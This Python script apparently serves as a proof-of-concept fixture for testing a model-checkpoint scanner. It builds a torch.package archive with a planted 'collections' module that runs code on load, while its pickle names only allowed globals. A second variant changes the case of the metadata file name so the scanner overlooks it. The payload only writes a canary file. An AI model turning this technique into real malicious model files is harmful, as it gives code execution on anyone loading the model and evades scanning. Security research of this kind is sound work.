"""A torch.package whose pickle names only globals torch's weights-only loader allows
(collections.OrderedDict, torch._utils._rebuild_tensor_v2), but the archive ships its own
`collections/__init__.py` and does not list `collections` in .data/extern_modules: PackageImporter
resolves every global of the package's pickles through the package, so load_pickle imports the
shipped module, which writes a canary file."""
import collections
import io
import sys
import zipfile

import torch
from torch.package import PackageExporter

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/package"
out = sys.argv[2] if len(sys.argv) > 2 else "model.pt"

buf = io.BytesIO()
with PackageExporter(buf) as exp:
    exp.save_pickle("res", "model.pkl", collections.OrderedDict(weight=torch.zeros(2)))
src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
names = src.namelist()
prefix = names[0].split("/")[0] + "/"
shadow = (f"open({canary!r}, 'w').write('ran')\n"
          "from builtins import dict as _d\n"
          "class OrderedDict(_d):\n    pass\n")
with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
    for name in names:
        data = src.read(name)
        if name == prefix + ".data/extern_modules":
            print("extern was:", data)
            data = b"\n".join(m for m in data.split(b"\n") if m.strip() != b"collections") + b"\n"
        z.writestr(name, data)
    z.writestr(prefix + "collections/__init__.py", shadow)
print("wrote", out, names)

# The same archive with its extern-module list spelled .DATA/Extern_Modules: PackageImporter
# reads it all the same (miniz finds records without ASCII case), but ckpt looked for the exact
# name, took the archive for no torch.package and judged collections.OrderedDict by its name
# alone (nothing to report, exit 0).
src = zipfile.ZipFile(out)
case_out = out.replace(".pt", "_case.pt")
with zipfile.ZipFile(case_out, "w", zipfile.ZIP_STORED) as z:
    for name in src.namelist():
        z.writestr(name.replace(".data/extern_modules", ".DATA/Extern_Modules"), src.read(name))
print("wrote", case_out)
